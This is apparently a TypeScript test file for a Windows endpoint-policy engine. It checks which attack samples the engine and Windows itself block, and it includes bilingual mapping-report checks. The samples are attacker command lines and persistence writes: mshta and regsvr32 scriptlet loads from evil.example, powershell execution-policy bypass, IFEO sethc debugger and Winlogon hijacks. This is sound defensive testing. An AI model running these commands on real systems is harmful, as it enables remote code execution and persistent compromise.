// Issue 12's reasons on Windows: code a command line names (USER_SPACE_SCRIPT / USER_SPACE_LIBRARY at the start),
// code fetched from the network (REMOTE_CODE) and system hooks (PERSIST_SYSTEM_HOOK: debugger, logon, accessibility).
// Each has a mapping-report entry (en, ja) naming the Windows engine that covers it or saying none does; the
// simulator sees the same events the policy engine refuses (same command-line parser, same hook locations) and its
// verdict on each sample is what that entry says Windows does; what the engine allows, Windows does not stop.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { compile, createEngine, findPreset, loadPolicy, type CompiledPolicy, type OmamoriEvent, type ProcessInfo, type ReasonCode } from '@omamori/policy';
import { compileWindows } from '../src/compile-windows.ts';
import type { MappingEntry } from '../src/mapping.ts';
import { compileWindowsPlan, type WindowsPlan } from '../src/plan.ts';
import { createWindowsSimulator, type WindowsOutcome } from '../src/simulate.ts';
import { NOW } from './helpers.ts';

function officePolicy(edit: (text: string) => string = (t) => t): CompiledPolicy {
  const r = loadPolicy(edit(findPreset('office')!.text));
  assert.ok(r.policy, JSON.stringify(r.problems));
  return compile(r.policy);
}

const SYS = 'C:\\Windows\\System32\\';
const IFEO = 'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options';
const WINLOGON = 'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon';
const explorer: ProcessInfo = { pid: 1, guid: 'explorer', image: 'C:\\Windows\\explorer.exe' };
const regExe: ProcessInfo = { pid: 2, guid: 'reg', image: `${SYS}reg.exe`, signer: 'Microsoft Windows' };
const cmdExe: ProcessInfo = { pid: 3, guid: 'cmd', image: `${SYS}cmd.exe`, signer: 'Microsoft Windows' };
const trustedInstaller: ProcessInfo = { pid: 4, guid: 'ti', image: 'C:\\Windows\\servicing\\TrustedInstaller.exe', signer: 'Microsoft Windows' };

let pid = 100;
/** A program started by explorer.exe (outside every guarded tree), as COM or the user's shell would. */
function start(image: string, commandLine: string): OmamoriEvent {
  return {
    v: 1, platform: 'windows', kind: 'process.start', host: 'pc1',
    proc: { pid: pid++, guid: `nr${pid}`, image, commandLine, cwd: 'C:\\Users\\u\\Downloads\\' },
    parent: { pid: explorer.pid, guid: explorer.guid! }, ancestors: [explorer],
  };
}
const hook = (proc: ProcessInfo, location: 'debugger' | 'logon' | 'accessibility', target: string, command?: string): OmamoriEvent => ({
  v: 1, platform: 'windows', kind: 'persistence.write', host: 'pc1', proc: { pid: proc.pid, guid: proc.guid!, image: proc.image }, location, target, ...(command ? { command } : {}),
});
const write = (proc: ProcessInfo, path: string): OmamoriEvent => ({
  v: 1, platform: 'windows', kind: 'file.access', host: 'pc1', proc: { pid: proc.pid, guid: proc.guid!, image: proc.image }, op: 'write', file: { path },
});

interface Sample {
  name: string;
  event: OmamoriEvent;
  reason: ReasonCode;
  /** What Windows does, as the mapping report says: the simulator's outcome, or 'none'. */
  windows: WindowsOutcome | 'none';
  /** The mapping entry that speaks for this sample. */
  entry: RegExp;
}

const TEMP = 'C:\\Users\\u\\AppData\\Local\\Temp\\';
const SAMPLES: Sample[] = [
  { name: 'mshta https://…', event: start(`${SYS}mshta.exe`, 'mshta.exe https://evil.example/a.hta'), reason: 'REMOTE_CODE', windows: 'block', entry: /\(REMOTE_CODE\)/ },
  { name: 'regsvr32 /i:https://… scrobj.dll (Squiblydoo)', event: start(`${SYS}regsvr32.exe`, 'regsvr32.exe /s /n /u /i:https://evil.example/a.sct scrobj.dll'), reason: 'REMOTE_CODE', windows: 'none', entry: /\(REMOTE_CODE\)/ },
  { name: 'pubprn.vbs script: moniker', event: start(`${SYS}cscript.exe`, `cscript.exe /b ${SYS}Printing_Admin_Scripts\\en-US\\pubprn.vbs 127.0.0.1 script:https://evil.example/a.sct`), reason: 'REMOTE_CODE', windows: 'none', entry: /\(REMOTE_CODE\)/ },
  { name: 'wscript x.vbs', event: start(`${SYS}wscript.exe`, `wscript.exe ${TEMP}invoice.vbs`), reason: 'USER_SPACE_SCRIPT', windows: 'block', entry: /\(USER_SPACE_SCRIPT at the start\)/ },
  { name: 'powershell -File x.ps1', event: start(`${SYS}WindowsPowerShell\\v1.0\\powershell.exe`, `powershell.exe -ep bypass -File ${TEMP}a.ps1`), reason: 'USER_SPACE_SCRIPT', windows: 'constrain', entry: /\(USER_SPACE_SCRIPT at the start\)/ },
  { name: 'cmd /c x.bat', event: start(`${SYS}cmd.exe`, `cmd.exe /c ${TEMP}a.bat`), reason: 'USER_SPACE_SCRIPT', windows: 'none', entry: /\(USER_SPACE_SCRIPT at the start\)/ },
  { name: 'rundll32 advpack LaunchINFSection x.inf', event: start(`${SYS}rundll32.exe`, `rundll32.exe advpack.dll,LaunchINFSection ${TEMP}a.inf,DefaultInstall_SingleUser,1,`), reason: 'USER_SPACE_SCRIPT', windows: 'none', entry: /\(USER_SPACE_SCRIPT at the start\)/ },
  { name: 'regsvr32 /i:x.sct scrobj.dll (local scriptlet)', event: start(`${SYS}regsvr32.exe`, `regsvr32.exe /s /u /i:${TEMP}a.sct scrobj.dll`), reason: 'USER_SPACE_SCRIPT', windows: 'none', entry: /\(USER_SPACE_SCRIPT at the start\)/ },
  { name: 'wmic /format:x.xsl', event: start(`${SYS}wbem\\WMIC.exe`, `wmic.exe os get /format:"${TEMP}a.xsl"`), reason: 'USER_SPACE_SCRIPT', windows: 'block', entry: /\(USER_SPACE_SCRIPT at the start\)/ },
  { name: 'cmstp x.inf', event: start(`${SYS}cmstp.exe`, `cmstp.exe /ni /s ${TEMP}a.inf`), reason: 'USER_SPACE_LIBRARY', windows: 'block', entry: /\(USER_SPACE_LIBRARY at the start\)/ },
  { name: 'rundll32 x.dll,Start', event: start(`${SYS}rundll32.exe`, 'rundll32.exe C:\\Users\\u\\AppData\\Roaming\\Qx\\qx.dll,Start'), reason: 'USER_SPACE_LIBRARY', windows: 'block', entry: /\(USER_SPACE_LIBRARY at the start\)/ },
  { name: 'regsvr32 relative x.dll (working folder)', event: start(`${SYS}regsvr32.exe`, 'regsvr32.exe /s payload.dll'), reason: 'USER_SPACE_LIBRARY', windows: 'block', entry: /\(USER_SPACE_LIBRARY at the start\)/ },
  { name: 'IFEO sethc.exe Debugger = cmd.exe', event: hook(regExe, 'debugger', `${IFEO}\\sethc.exe\\Debugger`, `${SYS}cmd.exe`), reason: 'PERSIST_SYSTEM_HOOK', windows: 'none', entry: /\(PERSIST_SYSTEM_HOOK, location debugger\)/ },
  { name: 'SilentProcessExit MonitorProcess', event: hook(regExe, 'debugger', 'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\SilentProcessExit\\notepad.exe\\MonitorProcess', `${TEMP}m.exe`), reason: 'PERSIST_SYSTEM_HOOK', windows: 'none', entry: /\(PERSIST_SYSTEM_HOOK, location debugger\)/ },
  { name: 'Winlogon Userinit', event: hook(regExe, 'logon', `${WINLOGON}\\Userinit`, `${SYS}userinit.exe,${TEMP}u.exe`), reason: 'PERSIST_SYSTEM_HOOK', windows: 'none', entry: /\(PERSIST_SYSTEM_HOOK, location logon\)/ },
  { name: 'Winlogon Shell', event: hook(regExe, 'logon', `${WINLOGON}\\Shell`, `explorer.exe,${TEMP}s.exe`), reason: 'PERSIST_SYSTEM_HOOK', windows: 'none', entry: /\(PERSIST_SYSTEM_HOOK, location logon\)/ },
  { name: 'sethc.exe replaced (persistence event)', event: hook(cmdExe, 'accessibility', `${SYS}sethc.exe`), reason: 'PERSIST_SYSTEM_HOOK', windows: 'none', entry: /\(PERSIST_SYSTEM_HOOK, location accessibility\)/ },
  { name: 'utilman.exe overwritten (file write)', event: write(cmdExe, `${SYS}utilman.exe`), reason: 'PERSIST_SYSTEM_HOOK', windows: 'none', entry: /\(PERSIST_SYSTEM_HOOK, location accessibility\)/ },
];

/** A fresh engine and simulator that have both seen the writers start (so each knows their images). */
function pair(policy: CompiledPolicy, plan: WindowsPlan) {
  const engine = createEngine(policy, { now: NOW });
  const sim = createWindowsSimulator(plan);
  for (const p of [explorer, regExe, cmdExe, trustedInstaller]) {
    const ev: OmamoriEvent = { v: 1, platform: 'windows', kind: 'process.start', host: 'pc1', proc: p };
    engine.decide(ev);
    sim.evaluate(ev);
  }
  return { engine, sim };
}

function entryFor(plan: WindowsPlan, re: RegExp): MappingEntry {
  const found = plan.mapping.filter((m) => re.test(m.rule));
  assert.equal(found.length, 1, `${re}: ${plan.mapping.map((m) => m.rule).join(' | ')}`);
  return found[0]!;
}

const MECHANISM_IN_REPORT: Record<string, RegExp> = { wdac: /^App Control (UMCI|Deny)/, 'wdac-script': /^App Control script enforcement/ };

test('each new reason: the engine refuses the sample, the simulator gives the Windows outcome its mapping entry states', () => {
  const policy = officePolicy();
  const plan = compileWindowsPlan(policy, { now: NOW });
  const { engine, sim } = pair(policy, plan);
  const byEntry = new Map<MappingEntry, Sample['windows'][]>();
  for (const s of SAMPLES) {
    const d = engine.decide(s.event);
    assert.equal(d.verdict, 'deny', `${s.name}: engine ${d.reason}`);
    assert.equal(d.reason, s.reason, s.name);
    const v = sim.evaluate(s.event);
    assert.equal(v?.outcome ?? 'none', s.windows, `${s.name}: simulator ${JSON.stringify(v)}`);
    const e = entryFor(plan, s.entry);
    byEntry.set(e, [...byEntry.get(e) ?? [], s.windows]);
    if (v) {
      // The mechanism the simulator names is one the report lists for this reason, and it judged the same file.
      assert.ok(e.mechanisms.some((m) => MECHANISM_IN_REPORT[v.mechanism]!.test(m)), `${s.name}: ${v.mechanism} not in [${e.mechanisms.join('; ')}]`);
      if (v.object) assert.equal(v.object, d.object, s.name);
    }
  }
  // Coverage agrees with what the simulator found: nothing stopped → NOT enforced; some → partly; never "enforced"
  // while a sample gets through.
  assert.equal(byEntry.size, 6);
  for (const [e, outcomes] of byEntry) {
    const stopped = outcomes.filter((o) => o === 'block');
    const expected = stopped.length === 0 ? 'not-enforced' : stopped.length === outcomes.length ? 'enforced' : 'partial';
    assert.equal(e.coverage, expected, `${e.rule}: ${outcomes.join(', ')}`);
  }
});

test('what the engine allows, Windows does not stop: trusted installers, system scripts and modules, hooks off', () => {
  const policy = officePolicy();
  const plan = compileWindowsPlan(policy, { now: NOW });
  const { engine, sim } = pair(policy, plan);
  const allowed: [string, OmamoriEvent][] = [
    ['TrustedInstaller writes an IFEO debugger', hook(trustedInstaller, 'debugger', `${IFEO}\\vsjit.exe\\Debugger`, `${SYS}vsjitdebugger.exe`)],
    ['TrustedInstaller replaces sethc.exe', write(trustedInstaller, `${SYS}sethc.exe`)],
    ['cscript runs a System32 script', start(`${SYS}cscript.exe`, `cscript.exe //nologo ${SYS}slmgr.vbs /dlv`)],
    ['rundll32 runs a System32 module', start(`${SYS}rundll32.exe`, 'rundll32.exe shell32.dll,Control_RunDLL desk.cpl')],
    ['regsvr32 registers a Program Files module', start(`${SYS}regsvr32.exe`, 'regsvr32.exe /s "C:\\Program Files\\Vendor\\ext.dll"')],
  ];
  for (const [name, ev] of allowed) {
    assert.equal(engine.decide(ev).verdict, 'allow', name);
    assert.equal(sim.evaluate(ev), undefined, name);
  }

  const off = officePolicy((t) => t.replace('denySystemHooks: true', 'denySystemHooks: false'));
  assert.equal(off.doc.persistence.denySystemHooks, false, 'preset text changed: denySystemHooks not turned off');
  const offPlan = compileWindowsPlan(off, { now: NOW });
  const p = pair(off, offPlan);
  for (const s of SAMPLES.filter((x) => x.reason === 'PERSIST_SYSTEM_HOOK')) {
    // With hooks allowed, only an entry that starts user-space code is still refused (persistence.denyUserSpaceCode).
    const d = p.engine.decide(s.event);
    const command = s.event.kind === 'persistence.write' ? s.event.command ?? '' : '';
    assert.deepEqual([d.verdict, d.reason], command.includes(TEMP) ? ['deny', 'PERSIST_USER_SPACE_CODE'] : ['allow', 'ALLOW_NOT_PROTECTED'], s.name);
    assert.equal(p.sim.evaluate(s.event), undefined, s.name);
  }
  assert.equal(entryFor(offPlan, /^persistence\.denySystemHooks false$/).coverage, 'not-applicable');
  assert.equal(offPlan.mapping.filter((m) => /PERSIST_SYSTEM_HOOK/.test(m.rule)).length, 0);
});

test('audit: the engine logs would-be refusals; Windows judges no script (script enforcement off) and audits the mshta deny', () => {
  const policy = officePolicy((t) => t.replace(/^mode: enforce$/m, 'mode: audit'));
  const plan = compileWindowsPlan(policy, { now: NOW });
  const { engine, sim } = pair(policy, plan);
  const wscript = SAMPLES.find((s) => s.name === 'wscript x.vbs')!.event;
  assert.equal(engine.decide(wscript).verdict, 'audit-deny');
  assert.equal(sim.evaluate(wscript), undefined);
  const mshta = SAMPLES.find((s) => s.name === 'mshta https://…')!.event;
  assert.equal(engine.decide(mshta).reason, 'REMOTE_CODE');
  const v = sim.evaluate(mshta);
  assert.equal(v?.outcome, 'audit');
  assert.equal(v?.blocked, false);
  const scripts = entryFor(plan, /\(USER_SPACE_SCRIPT at the start\)/);
  assert.ok(!scripts.mechanisms.includes('App Control script enforcement'));
  assert.match(scripts.note.en, /script enforcement is off \(audit\), so no script is judged/);
  assert.match(scripts.note.ja, /スクリプトの強制がオフ \(監査\)/);
  assert.ok(!entryFor(plan, /\(REMOTE_CODE\)/).mechanisms.some((m) => /script enforcement/.test(m)));
});

test('mapping report: the new reasons and hook locations, with the Windows engine or none, in English and Japanese', () => {
  const { files } = compileWindows(officePolicy(), { now: NOW });
  const en = String(files.get('mapping.en.md'));
  const ja = String(files.get('mapping.ja.md'));
  const section = (md: string, title: RegExp): string => {
    const i = md.search(title);
    assert.ok(i >= 0, `no section ${title}`);
    const rest = md.slice(i);
    return rest.slice(0, rest.indexOf('\n### ', 4) === -1 ? undefined : rest.indexOf('\n### ', 4));
  };

  const remoteEn = section(en, /### \(launch\) code fetched from the network \(REMOTE_CODE\)/);
  assert.match(remoteEn, /Status: \*\*partly enforced\*\*/);
  assert.match(remoteEn, /Mechanism: App Control Deny mshta\.exe; App Control script enforcement \(MSHTA\)/);
  assert.match(remoteEn, /Not refused: regsvr32 \/i:https:\/\/… scrobj\.dll/);
  const remoteJa = section(ja, /### \(launch\) code fetched from the network \(REMOTE_CODE\)/);
  assert.match(remoteJa, /状態: \*\*一部のみ\*\*/);
  assert.match(remoteJa, /拒否されないもの: regsvr32 \/i:https:\/\/… scrobj\.dll/);

  for (const [loc, what, whatJa] of [
    ['debugger', /Image File Execution Options Debugger/, /デバッガー エントリが起動する/],
    ['logon', /Winlogon Userinit\/Shell/, /ログオン時に/],
    ['accessibility', /sethc, utilman/, /所有者は TrustedInstaller/],
  ] as const) {
    const title = new RegExp(`### persistence\\.denySystemHooks: [^\\n]*\\(PERSIST_SYSTEM_HOOK, location ${loc}\\)`);
    const e = section(en, title);
    assert.match(e, what);
    assert.match(e, /Status: \*\*NOT enforced by Windows\*\*/);
    assert.match(e, /No Windows engine refuses it/);
    assert.doesNotMatch(e, /Mechanism:/, 'no mechanism is listed where none applies');
    const j = section(ja, title);
    assert.match(j, /状態: \*\*Windows では強制できない\*\*/);
    assert.match(j, /これを拒否する Windows の仕組みはありません/);
    assert.match(j, whatJa);
    assert.match(en, new RegExp(`- persistence\\.denySystemHooks: [^\\n]*location ${loc}\\) — NOT enforced by Windows`));
    assert.match(ja, new RegExp(`- persistence\\.denySystemHooks: [^\\n]*location ${loc}\\) — Windows では強制できない`));
  }
  assert.match(section(en, /### persistence\.trustedInstallers /), /Nothing on Windows refuses system hooks/);
  assert.match(section(ja, /### persistence\.trustedInstallers /), /Windows にはシステム フックを拒否する仕組みがない/);
});

test('cmstp x.inf: with cmstp.exe not denied, Windows runs the INF and the module entry says partly enforced', () => {
  const policy = officePolicy((t) => t.replace('allowedChildren: [xdg-open, xdg-email, gio]', 'allowedChildren: [xdg-open, xdg-email, gio, cmstp.exe]'));
  const plan = compileWindowsPlan(policy, { now: NOW });
  assert.ok(!plan.appControl.denyNames.includes('cmstp.exe'), 'preset text changed: cmstp.exe still denied');
  const { engine, sim } = pair(policy, plan);
  const cmstp = SAMPLES.find((s) => s.name === 'cmstp x.inf')!.event;
  assert.equal(engine.decide(cmstp).reason, 'USER_SPACE_LIBRARY');
  assert.equal(sim.evaluate(cmstp), undefined);
  const e = entryFor(plan, /\(USER_SPACE_LIBRARY at the start\)/);
  assert.equal(e.coverage, 'partial');
  assert.match(e.note.en, /cmstp\.exe is not denied in this plan, so it runs the INF/);
  assert.match(e.note.ja, /cmstp\.exe を拒否しないため INF は実行され/);
  assert.match(entryFor(compileWindowsPlan(officePolicy(), { now: NOW }), /\(USER_SPACE_LIBRARY at the start\)/).note.en, /cmstp\.exe is denied by name in this plan/);
});
